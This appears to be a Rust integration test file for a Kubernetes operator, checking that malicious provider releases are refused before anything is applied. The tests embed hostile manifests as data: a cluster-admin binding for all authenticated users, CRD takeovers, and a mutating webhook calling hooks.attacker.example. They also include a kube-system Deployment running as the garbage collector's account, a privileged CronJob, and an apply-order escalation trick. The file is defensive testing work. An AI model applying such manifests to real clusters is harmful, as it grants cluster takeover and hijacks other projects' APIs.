//! Components that would grant more than the provider's own objects are refused before
//! anything is written.

use butler_operator::api::{CoreProvider, InfrastructureProvider};
use k8s_openapi::api::apps::v1::Deployment;
use k8s_openapi::api::rbac::v1::ClusterRoleBinding;
use kube::api::Api;
use serde_json::json;

use crate::fixtures::{components, gadget_crd, publish, selector};
use crate::support::{Scenario, condition, reason};

pub(crate) fn spec(label: &str) -> String {
    let mut spec: serde_json::Value = serde_json::from_str(&selector(label)).unwrap();
    spec["version"] = json!("v1.0.0");
    spec.to_string()
}

/// Waits until `ProviderInstalled` of the InfrastructureProvider `name` says `why`: the
/// provider and the condition's message.
pub(crate) async fn refused(s: &Scenario, name: &str, why: &str) -> (InfrastructureProvider, String) {
    let refused =
        s.wait_for::<InfrastructureProvider>(name, why, |p| reason(p, "ProviderInstalled", why)).await;
    let message = condition(&refused, "ProviderInstalled").unwrap().message.clone();
    (refused, message)
}

/// A scenario whose cluster-wide objects are labelled `scenario.butlerlabs.dev/run={label}`
/// (had anything been applied, it goes with the scenario, passed or failed), with Butler's core
/// published: the scenario and the label.
pub(crate) async fn attack(name: &str) -> (Scenario, String) {
    let s = Scenario::new(name).await;
    let run_label = s.cluster.unique("attack");
    s.cluster.remove_cluster_objects_labelled(&format!("scenario.butlerlabs.dev/run={run_label}"));
    publish(&s, "butler", "core-components.yaml", "v1.0.0", &components("butler", "v1.0.0", &[])).await;
    (s, run_label)
}

/// A repository in a labelled ConfigMap (writable by whoever may write ConfigMaps in the
/// providers' namespace) whose components bind cluster-admin to every authenticated user.
#[tokio::test]
async fn a_binding_of_cluster_admin_to_everyone_is_refused_and_nothing_is_applied() {
    let (mut s, run_label) = attack("attack-crb").await;
    let binding = s.cluster.unique("everyone-admin");
    let mut evil = components("evil", "v1.0.0", &[]);
    evil.push_str(&format!(
        "---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata:
  name: {binding}
  labels: {{scenario.butlerlabs.dev/run: {run_label}}}
roleRef: {{apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: cluster-admin}}
subjects:
- {{apiGroup: rbac.authorization.k8s.io, kind: Group, name: 'system:authenticated'}}
"
    ));
    publish(&s, "infrastructure-evil", "infrastructure-components.yaml", "v1.0.0", &evil).await;
    s.start_operator();
    s.create::<CoreProvider>("butler", &spec("butler")).await;
    s.create::<InfrastructureProvider>("evil", &spec("infrastructure-evil")).await;
    let (refused, message) = refused(&s, "evil", "PolicyViolation").await;
    assert_eq!(
        message,
        format!(
            "ClusterRoleBinding {binding} is refused: it binds the ClusterRole \"cluster-admin\", which the provider's components do not define; a provider's bindings name its own roles (or a ClusterRole the operator allows with --allow-cluster-role)"
        )
    );
    assert!(reason(&refused, "Ready", "NotInstalled"), "{:?}", refused.status);
    // Nothing of the release was written: not the binding, not the rest.
    let bindings: Api<ClusterRoleBinding> = Api::all(s.client.clone());
    assert!(bindings.get_opt(&binding).await.unwrap().is_none(), "the binding was applied");
    let deployments: Api<Deployment> = Api::namespaced(s.client.clone(), &s.namespace);
    assert!(deployments.get_opt("evil-controller-manager").await.unwrap().is_none());
    s.stop_operator().await;
}

/// A release that ships another provider's CRD (with a schema of its own) would rewrite that
/// provider's API for the whole cluster.
#[tokio::test]
async fn another_providers_crd_is_never_taken_over() {
    use crate::fixtures::Part;
    use k8s_openapi::apiextensions_apiserver::pkg::apis::apiextensions::v1::CustomResourceDefinition;
    let mut s = Scenario::new("attack-crd").await;
    publish(&s, "butler", "core-components.yaml", "v1.0.0", &components("butler", "v1.0.0", &[])).await;
    publish(
        &s,
        "infrastructure-owner",
        "infrastructure-components.yaml",
        "v1.0.0",
        &components("owner", "v1.0.0", &[Part::Crd]),
    )
    .await;
    let mut thief = components("thief", "v1.0.0", &[]);
    thief.push_str(&format!("---\n{}", gadget_crd("owner.test.io", "Cluster")));
    publish(&s, "infrastructure-thief", "infrastructure-components.yaml", "v1.0.0", &thief).await;
    s.start_operator();
    s.create::<CoreProvider>("butler", &spec("butler")).await;
    s.create::<InfrastructureProvider>("owner", &spec("infrastructure-owner")).await;
    s.wait_for::<InfrastructureProvider>("owner", "installed", |p| {
        reason(p, "ProviderInstalled", "Installed")
    })
    .await;
    s.create::<InfrastructureProvider>("thief", &spec("infrastructure-thief")).await;
    let (_, message) = refused(&s, "thief", "ApplyFailed").await;
    assert!(
        message.contains(&format!(
            "CustomResourceDefinition gadgets.owner.test.io belongs to InfrastructureProvider {}/owner, and a provider never takes over another's CRDs",
            s.namespace
        )),
        "{message}"
    );
    let crd =
        Api::<CustomResourceDefinition>::all(s.client.clone()).get("gadgets.owner.test.io").await.unwrap();
    assert_eq!(crd.spec.scope, "Namespaced", "the owner's CRD is as the owner made it");
    s.stop_operator().await;
}

/// A release that ships the CRD of another project (one made outside the operator: by hand, by
/// that project's installer) would rewrite that project's API for the whole cluster; it is
/// taken over only when the operator's configuration lets providers adopt its group.
#[tokio::test]
async fn a_crd_made_outside_the_operator_is_taken_over_only_in_the_groups_allowed() {
    use k8s_openapi::apiextensions_apiserver::pkg::apis::apiextensions::v1::CustomResourceDefinition;
    let mut s = Scenario::new("attack-adopt").await;
    let group = format!("{}.victim.example.com", s.cluster.unique("v").replace('-', ""));
    let crd = |scope: &str| gadget_crd(&group, scope);
    // The other project's CRD, there before any provider.
    let theirs: CustomResourceDefinition = serde_saphyr::from_str(&crd("Namespaced")).unwrap();
    s.cluster.install_own_crd(&theirs).await;
    publish(&s, "butler", "core-components.yaml", "v1.0.0", &components("butler", "v1.0.0", &[])).await;
    // The release's version of it adds a version v2 (a scope of its own could never apply: a
    // CRD's scope cannot change, and a CRD is never made anew).
    let mut thief = components("thief", "v1.0.0", &[]);
    thief.push_str(&format!("---\n{}", crate::fixtures::versioned_gadget_crd(&group, &["v1", "v2"])));
    publish(&s, "infrastructure-thief", "infrastructure-components.yaml", "v1.0.0", &thief).await;
    s.start_operator();
    s.create::<CoreProvider>("butler", &spec("butler")).await;
    s.create::<InfrastructureProvider>("thief", &spec("infrastructure-thief")).await;
    let (_, message) = refused(&s, "thief", "ApplyFailed").await;
    assert!(
        message.contains(&format!(
            "CustomResourceDefinition gadgets.{group} exists already, made outside this operator, and its group {group} is not one a provider takes over"
        )),
        "{message}"
    );
    assert!(message.contains(&format!("--adopt-crd-group {group}")), "{message}");
    let crds: Api<CustomResourceDefinition> = Api::all(s.client.clone());
    let versions = |crd: CustomResourceDefinition| crd.spec.versions.len();
    assert_eq!(versions(crds.get(&format!("gadgets.{group}")).await.unwrap()), 1, "as its project made it");

    // The platform lets providers take that group over: adopted (and never deleted with them).
    s.stop_operator().await;
    let allowed = group.clone();
    s.start_operator_with_options(move |o| o.policy.adopt_crd_groups = vec![allowed]);
    s.wait_for::<InfrastructureProvider>("thief", "installed", |p| {
        reason(p, "ProviderInstalled", "Installed")
    })
    .await;
    assert_eq!(versions(crds.get(&format!("gadgets.{group}")).await.unwrap()), 2, "applied over");
    s.stop_operator().await;
}

/// A provider object in a namespace where the operator does not look for one (a tenant's, say)
/// is another operator's or no one's: nothing is made for it, not even the finalizer, and its
/// status is not written (another operator may honour that namespace); `butlerctl describe`
/// says that no operator honours it.
#[tokio::test]
async fn a_provider_object_outside_the_configured_namespaces_installs_nothing() {
    let mut s = Scenario::new("attack-ns").await;
    publish(&s, "butler", "core-components.yaml", "v1.0.0", &components("butler", "v1.0.0", &[])).await;
    s.start_operator_with_options(|o| o.policy.provider_namespaces = Some(vec!["butler-system".into()]));
    s.create::<CoreProvider>("butler", &spec("butler")).await;
    tokio::time::sleep(std::time::Duration::from_millis(500)).await;
    let left = s.api::<CoreProvider>().get("butler").await.unwrap();
    assert!(left.status.is_none(), "its status is not written: {:?}", left.status);
    assert!(left.metadata.finalizers.unwrap_or_default().is_empty(), "no finalizer");
    let deployments: Api<Deployment> = Api::namespaced(s.client.clone(), &s.namespace);
    assert!(deployments.get_opt("butler-controller-manager").await.unwrap().is_none());
    let operators = butler_operator::cli::honoured::Operators {
        found: vec![butler_operator::cli::honoured::Found {
            name: "butler-system/butler-operator".into(),
            namespaces: Some(vec!["butler-system".into()]),
            label: None,
            ..Default::default()
        }],
        ..Default::default()
    };
    let why = operators.why_not(&s.namespace).expect("not honoured");
    assert!(why.contains("add --provider-namespace="), "{why}");
    s.stop_operator().await;
}

/// A release that brings a decoy CRD into another project's API group (Argo CD's) and a
/// webhook on that project's kind, called at a URL of the attacker's: once applied, it
/// rewrote every Argo CD Application. Refused, and nothing of it is written.
#[tokio::test]
async fn a_webhook_on_another_projects_kind_is_refused_whatever_decoy_comes_with_it() {
    let mut s = Scenario::new("attack-webhook").await;
    publish(&s, "butler", "core-components.yaml", "v1.0.0", &components("butler", "v1.0.0", &[])).await;
    let decoy_group = format!("{}.argoproj.io", s.namespace);
    let release = |client: &str| {
        format!(
            "{}---\n{}---
apiVersion: admissionregistration.k8s.io/v1
kind: MutatingWebhookConfiguration
metadata:
  name: {ns}-decoy-mutating
webhooks:
  - name: applications.{decoy_group}
    admissionReviewVersions: [v1]
    sideEffects: None
    failurePolicy: Ignore
    clientConfig: {client}
    rules:
      - apiGroups: [{decoy_group}]
        apiVersions: [v1alpha1]
        operations: [CREATE, UPDATE]
        resources: [applications]
",
            components("decoy", "v1.0.0", &[]),
            gadget_crd(&decoy_group, "Namespaced"),
            ns = s.namespace,
        )
    };
    let by_url = release("{url: \"https://hooks.attacker.example/mutate\"}");
    publish(&s, "infrastructure-decoy", "infrastructure-components.yaml", "v1.0.0", &by_url).await;
    let by_service = release("{service: {name: decoy-webhook, namespace: decoy-system, path: /mutate}}");
    publish(&s, "infrastructure-decoy", "infrastructure-components.yaml", "v1.1.0", &by_service).await;
    s.start_operator_shipped(|_| {}).await;
    s.create::<CoreProvider>("butler", &spec("butler")).await;
    s.create::<InfrastructureProvider>("decoy", &spec("infrastructure-decoy")).await;
    let refused = s
        .wait_for::<InfrastructureProvider>("decoy", "refused", |p| {
            reason(p, "ProviderInstalled", "PolicyViolation")
        })
        .await;
    let message = &condition(&refused, "ProviderInstalled").unwrap().message;
    assert!(
        message.contains("calls the URL \"https://hooks.attacker.example/mutate\" instead of a Service"),
        "{message}"
    );

    s.patch_spec::<InfrastructureProvider>("decoy", json!({"version": "v1.1.0"})).await;
    let refused = s
        .wait_for::<InfrastructureProvider>("decoy", "refused again", |p| {
            condition(p, "ProviderInstalled")
                .is_some_and(|c| c.message.contains("intercepts \"applications\""))
        })
        .await;
    assert!(reason(&refused, "ProviderInstalled", "PolicyViolation"), "{:?}", refused.status);
    let crds: Api<
        k8s_openapi::apiextensions_apiserver::pkg::apis::apiextensions::v1::CustomResourceDefinition,
    > = Api::all(s.client.clone());
    assert!(
        crds.get_opt(&format!("gadgets.{decoy_group}")).await.unwrap().is_none(),
        "nothing of it is written"
    );
    let hooks: Api<k8s_openapi::api::admissionregistration::v1::MutatingWebhookConfiguration> =
        Api::all(s.client.clone());
    assert!(hooks.get_opt(&format!("{}-decoy-mutating", s.namespace)).await.unwrap().is_none());
    s.stop_operator().await;
}

/// A release with a cluster-scoped decoy CRD whose kind is `Deployment` (in a group of its own)
/// and an `apps/v1` Deployment in kube-system running as the garbage collector's
/// ServiceAccount: the decoy once made the Deployment count as cluster-scoped, so it stayed in
/// kube-system. Scope is decided by group and kind, the Deployment goes to the provider's
/// namespace, and a pod may run only as a ServiceAccount of the release: refused, nothing made.
#[tokio::test]
async fn a_decoy_kind_keeps_nothing_in_kube_system_and_no_pod_runs_as_anothers_account() {
    let mut s = Scenario::new("attack-decoy-kind").await;
    publish(&s, "butler", "core-components.yaml", "v1.0.0", &components("butler", "v1.0.0", &[])).await;
    let group = format!("{}.decoy.test.io", s.namespace);
    let name = format!("{}-runs-as-gc", s.namespace);
    let release = format!(
        "{}---
apiVersion: apiextensions.k8s.io/v1
kind: CustomResourceDefinition
metadata: {{name: deployments.{group}}}
spec:
  group: {group}
  scope: Cluster
  names: {{kind: Deployment, listKind: DeploymentList, plural: deployments, singular: deployment}}
  versions: [{{name: v1, served: true, storage: true, schema: {{openAPIV3Schema: {{type: object, x-kubernetes-preserve-unknown-fields: true}}}}}}]
---
apiVersion: apps/v1
kind: Deployment
metadata: {{name: {name}, namespace: kube-system}}
spec:
  selector: {{matchLabels: {{app: {name}}}}}
  template:
    metadata: {{labels: {{app: {name}}}}}
    spec:
      serviceAccountName: generic-garbage-collector
      containers: [{{name: c, image: registry.example.com/c:v1}}]
",
        components("decoy", "v1.0.0", &[])
    );
    publish(&s, "infrastructure-decoy", "infrastructure-components.yaml", "v1.0.0", &release).await;
    s.start_operator_shipped(|_| {}).await;
    s.create::<CoreProvider>("butler", &spec("butler")).await;
    s.create::<InfrastructureProvider>("decoy", &spec("infrastructure-decoy")).await;
    let refused = s
        .wait_for::<InfrastructureProvider>("decoy", "refused", |p| {
            reason(p, "ProviderInstalled", "PolicyViolation")
        })
        .await;
    let message = &condition(&refused, "ProviderInstalled").unwrap().message;
    assert!(message.contains(&format!("Deployment {}/{name} is refused", s.namespace)), "{message}");
    assert!(message.contains("ServiceAccount") && message.contains("generic-garbage-collector"), "{message}");
    let system: Api<Deployment> = Api::namespaced(s.client.clone(), "kube-system");
    assert!(system.get_opt(&name).await.unwrap().is_none(), "nothing in kube-system");
    s.stop_operator().await;
}

/// An aggregated API (OLM's package server, say) serves its kinds with no CRD: a release CRD of
/// that group and plural would shadow it, and is refused before anything is written. (On a
/// real cluster the scenario runs where the cluster serves OLM's packages; else it is skipped.)
#[tokio::test]
async fn a_crd_shadowing_an_aggregated_api_is_refused_and_nothing_is_written() {
    let (group, version, kind, plural) =
        ("packages.operators.coreos.com", "v1", "PackageManifest", "packagemanifests");
    let mut s = Scenario::new("attack-aggregated").await;
    match s.cluster.server() {
        Some(server) => server.serve_aggregated(group, version, kind, plural, true),
        None => {
            let served = s.client.list_api_group_resources(&format!("{group}/{version}")).await;
            if !served.is_ok_and(|list| list.resources.iter().any(|r| r.name == plural)) {
                println!("skipped: this cluster serves no {plural}.{group}");
                return;
            }
        }
    }
    publish(&s, "butler", "core-components.yaml", "v1.0.0", &components("butler", "v1.0.0", &[])).await;
    let release = format!(
        "{}---
apiVersion: apiextensions.k8s.io/v1
kind: CustomResourceDefinition
metadata: {{name: {plural}.{group}}}
spec:
  group: {group}
  scope: Namespaced
  names: {{kind: {kind}, listKind: {kind}List, plural: {plural}, singular: packagemanifest}}
  versions: [{{name: {version}, served: true, storage: true, schema: {{openAPIV3Schema: {{type: object, x-kubernetes-preserve-unknown-fields: true}}}}}}]
",
        components("shadow", "v1.0.0", &[])
    );
    publish(&s, "infrastructure-shadow", "infrastructure-components.yaml", "v1.0.0", &release).await;
    s.start_operator_shipped(|_| {}).await;
    s.create::<CoreProvider>("butler", &spec("butler")).await;
    s.create::<InfrastructureProvider>("shadow", &spec("infrastructure-shadow")).await;
    let refused = s
        .wait_for::<InfrastructureProvider>("shadow", "refused", |p| {
            condition(p, "ProviderInstalled").is_some_and(|c| c.message.contains("an aggregated API"))
        })
        .await;
    let message = &condition(&refused, "ProviderInstalled").unwrap().message;
    assert!(
        message.contains(&format!("CustomResourceDefinition {plural}.{group} would define {kind} ({plural}) in {group}/{version}, which the API server serves already without a CustomResourceDefinition (an aggregated API)")),
        "{message}"
    );
    let crds: Api<
        k8s_openapi::apiextensions_apiserver::pkg::apis::apiextensions::v1::CustomResourceDefinition,
    > = Api::all(s.client.clone());
    assert!(crds.get_opt(&format!("{plural}.{group}")).await.unwrap().is_none(), "no CRD is made");
    let deployments: Api<Deployment> = Api::namespaced(s.client.clone(), &s.namespace);
    assert!(
        deployments.get_opt("shadow-controller-manager").await.unwrap().is_none(),
        "nothing of it is written"
    );
    s.stop_operator().await;
}

/// A variable of the operator's config file (credentials, say) reaches a provider only when the
/// file names that provider for it: a third-party release that asks for it gets its default.
#[tokio::test]
async fn a_variable_of_the_operators_config_reaches_only_the_providers_it_is_named_for() {
    let mut s = Scenario::new("attack-variables").await;
    publish(&s, "butler", "core-components.yaml", "v1.0.0", &components("butler", "v1.0.0", &[])).await;
    // The test providers' manager runs with `--greeting=${GREETING:=hello}`.
    publish(
        &s,
        "infrastructure-thirdparty",
        "infrastructure-components.yaml",
        "v1.0.0",
        &components("thirdparty", "v1.0.0", &[]),
    )
    .await;
    publish(
        &s,
        "infrastructure-trusted",
        "infrastructure-components.yaml",
        "v1.0.0",
        &components("trusted", "v1.0.0", &[]),
    )
    .await;
    let dir = tempfile::tempdir().unwrap();
    let config = dir.path().join("butler-operator.yaml");
    std::fs::write(&config, "GREETING: s3cr3t\nproviderVariables:\n  infrastructure-trusted: [GREETING]\n")
        .unwrap();
    s.start_operator_with(Some(config));
    s.create::<CoreProvider>("butler", &spec("butler")).await;
    for name in ["thirdparty", "trusted"] {
        s.create::<InfrastructureProvider>(name, &spec(&format!("infrastructure-{name}"))).await;
        s.wait_for::<InfrastructureProvider>(name, "installed", |p| {
            reason(p, "ProviderInstalled", "Installed")
        })
        .await;
    }
    let args = |deployment: &Deployment| {
        deployment.spec.as_ref().unwrap().template.spec.as_ref().unwrap().containers[0]
            .args
            .clone()
            .unwrap_or_default()
    };
    let thirdparty = args(&s.deployments("InfrastructureProvider", "thirdparty").await[0]);
    assert!(thirdparty.contains(&"--greeting=hello".to_string()), "{thirdparty:?}");
    let trusted = args(&s.deployments("InfrastructureProvider", "trusted").await[0]);
    assert!(trusted.contains(&"--greeting=s3cr3t".to_string()), "{trusted:?}");
    s.stop_operator().await;
}

/// Order beats a policy that checks objects one at a time while they are written: a release
/// lists a ServiceAccount, a binding of it to `cluster-admin`, and last a `ClusterRole
/// cluster-admin`, so that the binding "names a role the release defines". The whole set is
/// judged against the cluster first: `cluster-admin` exists and is not the provider's, and
/// nothing of the release is written, the ServiceAccount and the binding included.
#[tokio::test]
async fn a_release_that_redefines_an_existing_role_last_writes_nothing() {
    use k8s_openapi::api::core::v1::ServiceAccount;
    let (mut s, run_label) = attack("attack-order").await;
    let binding = s.cluster.unique("order-admin");
    let mut evil = components("order", "v1.0.0", &[]);
    evil.push_str(&format!(
        "---
apiVersion: v1
kind: ServiceAccount
metadata: {{name: escalator, namespace: order-system}}
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata:
  name: {binding}
  labels: {{scenario.butlerlabs.dev/run: {run_label}}}
roleRef: {{apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: cluster-admin}}
subjects:
- {{kind: ServiceAccount, name: escalator, namespace: order-system}}
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: {{name: cluster-admin}}
rules: [{{apiGroups: [''], resources: [configmaps], verbs: [get]}}]
"
    ));
    publish(&s, "infrastructure-order", "infrastructure-components.yaml", "v1.0.0", &evil).await;
    s.start_operator();
    s.create::<CoreProvider>("butler", &spec("butler")).await;
    s.create::<InfrastructureProvider>("order", &spec("infrastructure-order")).await;
    let (_, message) = refused(&s, "order", "ApplyFailed").await;
    assert!(
        message
            .starts_with("nothing is applied: ClusterRole cluster-admin exists already and was not made by"),
        "{message}"
    );
    let bindings: Api<ClusterRoleBinding> = Api::all(s.client.clone());
    assert!(bindings.get_opt(&binding).await.unwrap().is_none(), "the binding was applied");
    let accounts: Api<ServiceAccount> = Api::namespaced(s.client.clone(), &s.namespace);
    assert!(accounts.get_opt("escalator").await.unwrap().is_none(), "the ServiceAccount was applied");
    let deployments: Api<Deployment> = Api::namespaced(s.client.clone(), &s.namespace);
    assert!(deployments.get_opt("order-controller-manager").await.unwrap().is_none());
    s.stop_operator().await;
}

/// Kinds no rule named passed: an admission policy that denies every write of the cluster, a
/// Pod, and pods beyond baseline in a CronJob. Each refuses the release before anything of it
/// is written.
#[tokio::test]
async fn kinds_and_pods_no_rule_allows_are_refused_before_anything_is_written() {
    let (mut s, run_label) = attack("attack-kinds").await;
    let policy = s.cluster.unique("deny-all");
    let extras = [
        (
            "denier",
            format!(
                "apiVersion: admissionregistration.k8s.io/v1
kind: ValidatingAdmissionPolicy
metadata:
  name: {policy}
  labels: {{scenario.butlerlabs.dev/run: {run_label}}}
spec:
  failurePolicy: Fail
  matchConstraints:
    resourceRules: [{{apiGroups: ['*'], apiVersions: ['*'], operations: ['*'], resources: ['*']}}]
  validations: [{{expression: 'false'}}]
"
            ),
            "would constrain requests of anyone",
        ),
        (
            "pod",
            "apiVersion: v1\nkind: Pod\nmetadata: {name: stray, namespace: pod-system}\nspec: {containers: [{name: c, image: busybox}]}\n".to_string(),
            "Pod is no kind a provider's components may create",
        ),
        (
            "cron",
            "apiVersion: batch/v1
kind: CronJob
metadata: {name: rooted, namespace: cron-system}
spec:
  schedule: '* * * * *'
  jobTemplate:
    spec:
      template:
        spec:
          restartPolicy: Never
          containers: [{name: c, image: busybox, securityContext: {privileged: true}}]
"
            .to_string(),
            "its pods would run the container \"c\" privileged, beyond Pod Security's baseline",
        ),
    ];
    for (name, extra, _) in &extras {
        let mut release = components(name, "v1.0.0", &[]);
        release.push_str(&format!("---\n{extra}"));
        let label = format!("infrastructure-{name}");
        publish(&s, &label, "infrastructure-components.yaml", "v1.0.0", &release).await;
    }
    s.start_operator();
    s.create::<CoreProvider>("butler", &spec("butler")).await;
    for (name, _, _) in &extras {
        s.create::<InfrastructureProvider>(name, &spec(&format!("infrastructure-{name}"))).await;
    }
    for (name, _, said) in &extras {
        let (_, message) = refused(&s, name, "PolicyViolation").await;
        assert!(message.contains(said), "{name}: {message}");
        let deployments: Api<Deployment> = Api::namespaced(s.client.clone(), &s.namespace);
        let manager = format!("{name}-controller-manager");
        assert!(deployments.get_opt(&manager).await.unwrap().is_none(), "{name}: its manager was applied");
    }
    let policies: Api<kube::api::DynamicObject> = Api::all_with(
        s.client.clone(),
        &kube::api::ApiResource::from_gvk(&kube::api::GroupVersionKind::gvk(
            "admissionregistration.k8s.io",
            "v1",
            "ValidatingAdmissionPolicy",
        )),
    );
    assert!(policies.get_opt(&policy).await.unwrap().is_none(), "the policy was applied");
    s.stop_operator().await;
}

/// A release's roles stay within the ClusterRole the platform names as their ceiling
/// (`--role-ceiling`), part by part: a role that reads Secrets besides ConfigMaps is refused
/// while the ceiling grants ConfigMaps only, and installs once the platform widens it.
#[tokio::test]
async fn a_role_beyond_the_configured_ceiling_is_refused_until_the_ceiling_grants_it() {
    use k8s_openapi::api::rbac::v1::ClusterRole;
    let (mut s, run_label) = attack("attack-ceiling").await;
    let (ceiling, role) = (s.cluster.unique("role-ceiling"), s.cluster.unique("reader"));
    let roles: Api<ClusterRole> = Api::all(s.client.clone());
    let ceiling_role: ClusterRole = serde_json::from_value(json!({
        "metadata": {"name": ceiling, "labels": {"scenario.butlerlabs.dev/run": run_label}},
        "rules": [{"apiGroups": [""], "resources": ["configmaps"], "verbs": ["get", "list", "watch"]}],
    }))
    .unwrap();
    roles.create(&Default::default(), &ceiling_role).await.unwrap();
    let mut wide = components("wide", "v1.0.0", &[]);
    wide.push_str(&format!(
        "---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata:
  name: {role}
  labels: {{scenario.butlerlabs.dev/run: {run_label}}}
rules:
- {{apiGroups: [''], resources: [configmaps, secrets], verbs: [get]}}
"
    ));
    publish(&s, "infrastructure-wide", "infrastructure-components.yaml", "v1.0.0", &wide).await;
    let named = ceiling.clone();
    s.start_operator_shipped(move |o| o.policy.role_ceiling = Some(named)).await;
    s.create::<CoreProvider>("butler", &spec("butler")).await;
    s.create::<InfrastructureProvider>("wide", &spec("infrastructure-wide")).await;
    let (_, message) = refused(&s, "wide", "PolicyViolation").await;
    assert!(
        message.starts_with(&format!("ClusterRole {role} is refused: its rule "))
            && message.ends_with(&format!(
                "grants get on secrets, which the ceiling ClusterRole {ceiling} (--role-ceiling) does not, nor is it on a kind of the release's own CRDs; add it to {ceiling} if the provider needs it"
            )),
        "{message}"
    );
    assert!(roles.get_opt(&role).await.unwrap().is_none(), "the role was applied");

    // The platform widens its ceiling: read at the next look, the release installs.
    let widened = json!({"rules": [{"apiGroups": [""], "resources": ["configmaps", "secrets"], "verbs": ["get", "list", "watch"]}]});
    roles
        .patch(&ceiling, &kube::api::PatchParams::default(), &kube::api::Patch::Merge(widened))
        .await
        .unwrap();
    s.patch_spec::<InfrastructureProvider>("wide", json!({"manager": {"verbosity": 2}})).await;
    s.wait_for::<InfrastructureProvider>("wide", "installed", |p| {
        reason(p, "ProviderInstalled", "Installed")
    })
    .await;
    assert!(roles.get_opt(&role).await.unwrap().is_some());
    s.stop_operator().await;
}
